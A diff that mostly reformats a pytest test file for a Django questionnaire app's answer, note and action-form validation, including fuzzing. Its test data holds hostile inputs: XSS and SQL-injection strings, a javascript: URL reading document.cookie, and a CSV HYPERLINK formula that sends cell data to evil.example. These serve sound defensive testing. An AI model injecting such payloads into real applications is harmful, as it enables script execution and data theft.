@@ -6,6 +6,7 @@ questionnaire has: area "data" with "streaming-data" (levels 1-5, Not applicable
 offered) and "data-discovery" (levels 1, 3, 5 only, no Not applicable); area
 "models" with "model-versions"; area "operations".
 """
+
 import string
 
 import pytest
@@ -56,30 +57,50 @@ def answered(assessment, member, streaming, discovery):
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("reason, detail, expected", [
-    ("lazy", "", 'Unknown reason "lazy"'),
-    ("DOES_NOT_APPLY", "", 'Unknown reason "DOES_NOT_APPLY"'),
-    ("other", "", "say what the other reason"),
-    ("other", " \x00\x1b \n", "say what the other reason"),
-    ("other", "x" * 201, "201 characters long; the limit is 200"),
-])
+@pytest.mark.parametrize(
+    "reason, detail, expected",
+    [
+        ("lazy", "", 'Unknown reason "lazy"'),
+        ("DOES_NOT_APPLY", "", 'Unknown reason "DOES_NOT_APPLY"'),
+        ("other", "", "say what the other reason"),
+        ("other", " \x00\x1b \n", "say what the other reason"),
+        ("other", "x" * 201, "201 characters long; the limit is 200"),
+    ],
+)
 def test_it_refuses_a_bad_reason_for_not_applicable(answered, member, streaming, reason, detail, expected):
-    message = refused(answered, member, [
-        AnswerInput(streaming.key, models.Answer.NOT_APPLICABLE, na_reason=reason, na_reason_detail=detail),
-    ])
+    message = refused(
+        answered,
+        member,
+        [
+            AnswerInput(streaming.key, models.Answer.NOT_APPLICABLE, na_reason=reason, na_reason_detail=detail),
+        ],
+    )
     assert expected in message and "streaming-data" in message
 
 
 @pytest.mark.django_db
 def test_it_keeps_a_reason_only_on_a_not_applicable_answer(answered, member, streaming):
-    answers_save(assessment=answered, user=member, answers=[
-        AnswerInput(streaming.key, models.Answer.NOT_APPLICABLE, na_reason="other", na_reason_detail=" Run\x07 by\n the state "),
-    ])
+    answers_save(
+        assessment=answered,
+        user=member,
+        answers=[
+            AnswerInput(
+                streaming.key,
+                models.Answer.NOT_APPLICABLE,
+                na_reason="other",
+                na_reason_detail=" Run\x07 by\n the state ",
+            ),
+        ],
+    )
     saved = answered.answers.get(question=streaming)
     assert (saved.na_reason, saved.na_reason_detail) == ("other", "Run by the state")
-    answers_save(assessment=answered, user=member, answers=[
-        AnswerInput(streaming.key, models.Answer.NOT_SURE, na_reason="shared_service", na_reason_detail="stale"),
-    ])
+    answers_save(
+        assessment=answered,
+        user=member,
+        answers=[
+            AnswerInput(streaming.key, models.Answer.NOT_SURE, na_reason="shared_service", na_reason_detail="stale"),
+        ],
+    )
     saved.refresh_from_db()
     assert (saved.kind, saved.na_reason, saved.na_reason_detail) == ("not_sure", "", "")
 
@@ -120,7 +141,9 @@ def test_it_refuses_an_unknown_question_key(answered, member):
 @pytest.mark.django_db
 def test_it_refuses_a_question_only_another_questionnaire_has(answered, member, full_questionnaire_version):
     own = set(models.Question.objects.filter(area__questionnaire=answered.questionnaire).values_list("key", flat=True))
-    foreign = models.Question.objects.filter(area__questionnaire=full_questionnaire_version).exclude(key__in=own).first()
+    foreign = (
+        models.Question.objects.filter(area__questionnaire=full_questionnaire_version).exclude(key__in=own).first()
+    )
     message = refused(answered, member, [AnswerInput(foreign.key, models.Answer.NOT_SURE)])
     assert f'"{foreign.key}"' in message and "not part of this assessment" in message
 
@@ -132,7 +155,9 @@ def other_version(questionnaire_version):
     from assessment.services.questionnaires import questionnaire_load
     from tests.helpers import DATA
 
-    text = (DATA / "good_questionnaire.yaml").read_text(encoding="utf-8").replace('version: "2026.1"', 'version: "other"')
+    text = (
+        (DATA / "good_questionnaire.yaml").read_text(encoding="utf-8").replace('version: "2026.1"', 'version: "other"')
+    )
     return questionnaire_load(parse_questionnaire(text, "other.yaml"), loaded_from="other.yaml").version
 
 
@@ -160,7 +185,9 @@ def test_it_refuses_an_unknown_kind_of_answer(answered, member, discovery):
 def test_it_refuses_an_oversize_note_and_accepts_the_limit(answered, member, discovery):
     message = refused(answered, member, [AnswerInput(discovery.key, models.Answer.NOT_SURE, note="x" * 2001)])
     assert "2001" in message and "2000" in message
-    answers_save(assessment=answered, user=member, answers=[AnswerInput(discovery.key, models.Answer.NOT_SURE, note="x" * 2000)])
+    answers_save(
+        assessment=answered, user=member, answers=[AnswerInput(discovery.key, models.Answer.NOT_SURE, note="x" * 2000)]
+    )
     assert len(answered.answers.get(question=discovery).note) == 2000
 
 
@@ -183,7 +210,9 @@ def test_it_strips_control_characters_from_notes_but_keeps_lines(answered, membe
     answers_save(
         assessment=answered,
         user=member,
-        answers=[AnswerInput(discovery.key, models.Answer.NOT_SURE, note="Ask\x00 the\x1b[31m owner\x7f\nthen\tcheck\x08")],
+        answers=[
+            AnswerInput(discovery.key, models.Answer.NOT_SURE, note="Ask\x00 the\x1b[31m owner\x7f\nthen\tcheck\x08")
+        ],
     )
     note = answered.answers.get(question=discovery).note
     assert note == "Ask the[31m owner\nthen\tcheck"
@@ -265,23 +294,31 @@ def test_it_saves_a_valid_page(answered, member_client, discovery):
 @pytest.mark.django_db
 def test_it_refuses_a_choice_that_belongs_to_another_question(answered, member_client):
     # level-2 is a choice of streaming-data, not of data-discovery.
-    page = post_refused(member_client, area_url(answered), page_post(discovery_value="level-2"), "How do teams find the data they need?")
+    page = post_refused(
+        member_client, area_url(answered), page_post(discovery_value="level-2"), "How do teams find the data they need?"
+    )
     assert "not offered for this question" in page
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("value", ["level-9", "level-0", "level--1", "level-abc", "choice", "3", "NOT_SURE", "level-3 "])
+@pytest.mark.parametrize(
+    "value", ["level-9", "level-0", "level--1", "level-abc", "choice", "3", "NOT_SURE", "level-3 "]
+)
 def test_it_refuses_unknown_answer_values(answered, member_client, value):
     post_refused(member_client, area_url(answered), page_post(discovery_value=value), "not offered for this question")
 
 
 @pytest.mark.django_db
 def test_it_refuses_not_applicable_where_the_page_does_not_offer_it(answered, member_client):
-    post_refused(member_client, area_url(answered), page_post(discovery_value="not_applicable"), "not offered for this question")
+    post_refused(
+        member_client, area_url(answered), page_post(discovery_value="not_applicable"), "not offered for this question"
+    )
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("field", ["answer_no-such-question", "note_no-such-question", "answer_model-versions", "answer_", "answer_12"])
+@pytest.mark.parametrize(
+    "field", ["answer_no-such-question", "note_no-such-question", "answer_model-versions", "answer_", "answer_12"]
+)
 def test_it_refuses_answers_to_questions_not_on_the_page(answered, member_client, field):
     page = post_refused(member_client, area_url(answered), page_post(**{field: "not_sure"}), "not on this page")
     assert "Nothing was saved" in page
@@ -303,12 +340,19 @@ def test_it_refuses_an_oversize_note_and_keeps_what_was_typed(answered, member_c
 
 @pytest.mark.django_db
 def test_it_refuses_a_note_with_a_null_character(answered, member_client):
-    post_refused(member_client, area_url(answered), page_post(discovery_value="level-3", discovery_note="a\x00b"), "Null characters")
+    post_refused(
+        member_client,
+        area_url(answered),
+        page_post(discovery_value="level-3", discovery_note="a\x00b"),
+        "Null characters",
+    )
 
 
 @pytest.mark.django_db
 def test_it_saves_a_note_with_other_control_characters_cleaned(answered, member_client, discovery):
-    response = member_client.post(area_url(answered), page_post(discovery_value="not_sure", discovery_note="Call\x1b[0m Ana\x07\r\nTuesday"))
+    response = member_client.post(
+        area_url(answered), page_post(discovery_value="not_sure", discovery_note="Call\x1b[0m Ana\x07\r\nTuesday")
+    )
     assert response.status_code == 302
     note = answered.answers.get(question=discovery).note
     assert note.startswith("Call[0m Ana") and "Tuesday" in note
@@ -317,27 +361,39 @@ def test_it_saves_a_note_with_other_control_characters_cleaned(answered, member_
 
 @pytest.mark.django_db
 def test_it_refuses_a_note_without_an_answer(answered, member_client):
-    post_refused(member_client, area_url(answered), page_post(discovery_value="", discovery_note="Orphan"), "you wrote a note but chose no answer")
+    post_refused(
+        member_client,
+        area_url(answered),
+        page_post(discovery_value="", discovery_note="Orphan"),
+        "you wrote a note but chose no answer",
+    )
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("extra, expected", [
-    ({}, "Choose why from the list under the answers"),
-    ({"na_reason_streaming-data": "lazy"}, "that reason is not in the list"),
-    ({"na_reason_streaming-data": "<script>alert(1)</script>"}, "that reason is not in the list"),
-    ({"na_reason_streaming-data": "other"}, "you chose “Other” as the reason; say what it is"),
-    ({"na_reason_streaming-data": "other", "na_other_streaming-data": "   "}, "say what it is"),
-    ({"na_reason_streaming-data": "other", "na_other_streaming-data": "x" * 201}, "201 characters long"),
-    ({"na_reason_streaming-data": "other", "na_other_streaming-data": "a\x00b"}, "Null characters"),
-])
+@pytest.mark.parametrize(
+    "extra, expected",
+    [
+        ({}, "Choose why from the list under the answers"),
+        ({"na_reason_streaming-data": "lazy"}, "that reason is not in the list"),
+        ({"na_reason_streaming-data": "<script>alert(1)</script>"}, "that reason is not in the list"),
+        ({"na_reason_streaming-data": "other"}, "you chose “Other” as the reason; say what it is"),
+        ({"na_reason_streaming-data": "other", "na_other_streaming-data": "   "}, "say what it is"),
+        ({"na_reason_streaming-data": "other", "na_other_streaming-data": "x" * 201}, "201 characters long"),
+        ({"na_reason_streaming-data": "other", "na_other_streaming-data": "a\x00b"}, "Null characters"),
+    ],
+)
 def test_it_refuses_not_applicable_without_a_good_reason(answered, member_client, extra, expected):
-    page = post_refused(member_client, area_url(answered), page_post(streaming_value="not_applicable", **extra), expected)
+    page = post_refused(
+        member_client, area_url(answered), page_post(streaming_value="not_applicable", **extra), expected
+    )
     # The error is located: the summary links to the field in error.
     assert '<a href="#id_na_' in page
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("field", ["na_reason_no-such-question", "na_other_model-versions", "na_reason_", "na_other_12"])
+@pytest.mark.parametrize(
+    "field", ["na_reason_no-such-question", "na_other_model-versions", "na_reason_", "na_other_12"]
+)
 def test_it_refuses_reasons_for_questions_not_on_the_page(answered, member_client, field):
     post_refused(member_client, area_url(answered), page_post(**{field: "other"}), "not on this page")
 
@@ -457,26 +513,53 @@ FIELD_NAMES = [
     "csrfmiddlewaretoken",
 ]
 VALID_VALUES = [
-    "level-1", "level-2", "level-3", "level-4", "level-5", "not_sure", "not_applicable", "", "continue", "exit", "back",
-    "does_not_apply", "business_priority", "shared_service", "other",
+    "level-1",
+    "level-2",
+    "level-3",
+    "level-4",
+    "level-5",
+    "not_sure",
+    "not_applicable",
+    "",
+    "continue",
+    "exit",
+    "back",
+    "does_not_apply",
+    "business_priority",
+    "shared_service",
+    "other",
 ]
 text_values = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=60)
 hostile_values = st.one_of(
     st.sampled_from(VALID_VALUES),
     text_values,
     st.integers(min_value=-(10**20), max_value=10**20).map(str),
-    st.sampled_from(["x" * 2001, "\x00", "\x1b[2J", "<script>alert(1)</script>", "' OR 1=1 --", "level-" + "9" * 50, "é" * 1999 + "\u202e"]),
+    st.sampled_from(
+        [
+            "x" * 2001,
+            "\x00",
+            "\x1b[2J",
+            "<script>alert(1)</script>",
+            "' OR 1=1 --",
+            "level-" + "9" * 50,
+            "é" * 1999 + "\u202e",
+        ]
+    ),
 )
 field_names = st.one_of(
     st.sampled_from(FIELD_NAMES),
     st.text(alphabet=string.ascii_letters + string.digits + "_-[]", min_size=1, max_size=30),
     st.sampled_from(["answer_model-versions", "answer_987654", "note_", "answer_"]),
 )
-post_bodies = st.dictionaries(field_names, st.one_of(hostile_values, st.lists(hostile_values, min_size=2, max_size=3)), max_size=8)
+post_bodies = st.dictionaries(
+    field_names, st.one_of(hostile_values, st.lists(hostile_values, min_size=2, max_size=3)), max_size=8
+)
 
 
 @pytest.mark.django_db
-@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
+)
 @given(data=post_bodies)
 def test_it_never_fails_on_arbitrary_answer_posts(answered, member_client, data):
     before = db_snapshot()
@@ -493,12 +576,14 @@ def test_it_never_fails_on_arbitrary_answer_posts(answered, member_client, data)
 # --- Stored hostile text, shown back -----------------------------------------------------------
 
 SCRIPT_TITLE = '<script>alert("title")</script>'
-IMG_NOTE = '<img src=x onerror=alert(1)>'
+IMG_NOTE = "<img src=x onerror=alert(1)>"
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 @pytest.mark.django_db
-def test_it_escapes_stored_markup_on_every_page_and_defuses_formulas_in_csv(assessment, member, streaming, discovery, questionnaire_version):
+def test_it_escapes_stored_markup_on_every_page_and_defuses_formulas_in_csv(
+    assessment, member, streaming, discovery, questionnaire_version
+):
     from tests.urlwalk import STAFF, all_routes, body_text
 
     models.Assessment.objects.filter(pk=assessment.pk).update(title=SCRIPT_TITLE)
@@ -514,8 +599,13 @@ def test_it_escapes_stored_markup_on_every_page_and_defuses_formulas_in_csv(asse
     from django.utils import timezone
 
     models.Action.objects.create(
-        team=assessment.team, questionnaire_slug=questionnaire_version.slug, question_key=streaming.key,
-        target_level=3, owner_name=IMG_NOTE[:200], note=FORMULA_NOTE, created_at=timezone.now(),
+        team=assessment.team,
+        questionnaire_slug=questionnaire_version.slug,
+        question_key=streaming.key,
+        target_level=3,
+        owner_name=IMG_NOTE[:200],
+        note=FORMULA_NOTE,
+        created_at=timezone.now(),
     )
     values = {
         "assessment_id": assessment.pk,
@@ -558,7 +648,9 @@ new_assessment_bodies = st.dictionaries(
 
 
 @pytest.mark.django_db
-@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
+)
 @given(data=new_assessment_bodies)
 def test_it_never_fails_on_arbitrary_new_assessment_posts(team, member_client, questionnaire_version, data):
     before = models.Assessment.objects.count()
@@ -586,24 +678,34 @@ def planned_action(answered, member):
     return action
 
 
-ACTION_FORM = {"owner": "", "owner_name": "", "due_date": "2027-01-31", "status": "planned",
-               "wont_do_reason": "", "link": "", "note": ""}
+ACTION_FORM = {
+    "owner": "",
+    "owner_name": "",
+    "due_date": "2027-01-31",
+    "status": "planned",
+    "wont_do_reason": "",
+    "link": "",
+    "note": "",
+}
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("field, value, expected", [
-    ("due_date", "10000-01-01", "Enter a real date as year-month-day"),
-    ("due_date", "2027-02-30", "Enter a real date as year-month-day"),
-    ("due_date", "1066-10-14", "between the years 2000 and 2100"),
-    ("link", "javascript:alert(document.cookie)", "starting with http:// or https://"),
-    ("link", "JavaScript://%0aalert(1)", "starting with http:// or https://"),
-    ("link", "data:text/html,<script>alert(1)</script>", "starting with http:// or https://"),
-    ("note", "x" * 1_000_000, "Shorten the note to 5000 characters"),
-    ("owner_name", "y" * 201, "Shorten the name to 200 characters"),
-    ("owner", "999999", "Select a valid choice"),
-    ("status", "deleted", "Select a valid choice"),
-    ("wont_do_reason", "z" * 1001, "Shorten the reason to 1000 characters"),
-])
+@pytest.mark.parametrize(
+    "field, value, expected",
+    [
+        ("due_date", "10000-01-01", "Enter a real date as year-month-day"),
+        ("due_date", "2027-02-30", "Enter a real date as year-month-day"),
+        ("due_date", "1066-10-14", "between the years 2000 and 2100"),
+        ("link", "javascript:alert(document.cookie)", "starting with http:// or https://"),
+        ("link", "JavaScript://%0aalert(1)", "starting with http:// or https://"),
+        ("link", "data:text/html,<script>alert(1)</script>", "starting with http:// or https://"),
+        ("note", "x" * 1_000_000, "Shorten the note to 5000 characters"),
+        ("owner_name", "y" * 201, "Shorten the name to 200 characters"),
+        ("owner", "999999", "Select a valid choice"),
+        ("status", "deleted", "Select a valid choice"),
+        ("wont_do_reason", "z" * 1001, "Shorten the reason to 1000 characters"),
+    ],
+)
 def test_it_refuses_hostile_action_input_with_a_located_error(planned_action, member, field, value, expected):
     client = Client()
     client.force_login(member)
@@ -639,7 +741,8 @@ def respondent_draft(answered, member):
     panel_open(assessment=answered, lead=member, users=[member])
     streaming = question(answered.questionnaire, "streaming-data")
     respondent_answers_save(
-        respondent=answered.respondents.get(), user=member,
+        respondent=answered.respondents.get(),
+        user=member,
         answers=[AnswerInput(streaming.key, models.Answer.CHOICE, level=4, note="Mine")],
     )
     return answered
@@ -654,17 +757,25 @@ def respondent_url(assessment, name="respondent-area", area_key="data"):
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("name", ["respondent-area", "assessment-reconcile"])
-@pytest.mark.parametrize("data, expected", [
-    (page_post(discovery_value="level-2"), "not offered for this question"),
-    (page_post(streaming_value="level-99"), "not offered for this question"),
-    (page_post(streaming_value="'; DROP TABLE"), "not offered for this question"),
-    (page_post(discovery_value="not_applicable"), "not offered for this question"),
-    (page_post(**{"answer_no-such-question": "level-1"}), "not on this page"),
-    (page_post(discovery_note="x" * 2001, discovery_value="level-3"), "shorten it to 2000"),
-    (page_post(discovery_value="", discovery_note="orphan note"), "you wrote a note but chose no answer"),
-    (page_post(streaming_value="not_applicable", **{"na_reason_streaming-data": "lazy"}), "that reason is not in the list"),
-])
-def test_it_refuses_bad_answers_on_the_respondent_and_reconcile_pages(respondent_draft, member, member_client, name, data, expected):
+@pytest.mark.parametrize(
+    "data, expected",
+    [
+        (page_post(discovery_value="level-2"), "not offered for this question"),
+        (page_post(streaming_value="level-99"), "not offered for this question"),
+        (page_post(streaming_value="'; DROP TABLE"), "not offered for this question"),
+        (page_post(discovery_value="not_applicable"), "not offered for this question"),
+        (page_post(**{"answer_no-such-question": "level-1"}), "not on this page"),
+        (page_post(discovery_note="x" * 2001, discovery_value="level-3"), "shorten it to 2000"),
+        (page_post(discovery_value="", discovery_note="orphan note"), "you wrote a note but chose no answer"),
+        (
+            page_post(streaming_value="not_applicable", **{"na_reason_streaming-data": "lazy"}),
+            "that reason is not in the list",
+        ),
+    ],
+)
+def test_it_refuses_bad_answers_on_the_respondent_and_reconcile_pages(
+    respondent_draft, member, member_client, name, data, expected
+):
     if name == "assessment-reconcile":
         from assessment.services.respondents import respondent_submit
 
@@ -673,12 +784,15 @@ def test_it_refuses_bad_answers_on_the_respondent_and_reconcile_pages(respondent
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("value, expected", [
-    ("abc", "not a member of this team"),
-    ("987654", "not a member of this team"),
-    ("", "not a member of this team"),
-    ("-1", "not a member of this team"),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("abc", "not a member of this team"),
+        ("987654", "not a member of this team"),
+        ("", "not a member of this team"),
+        ("-1", "not a member of this team"),
+    ],
+)
 def test_it_refuses_bad_respondents(answered, member_client, value, expected):
     url = reverse("assessment-respondents", kwargs={"assessment_id": answered.pk})
     post_refused(member_client, url, {"respondents": [value]}, expected, 'href="#id_respondents"')
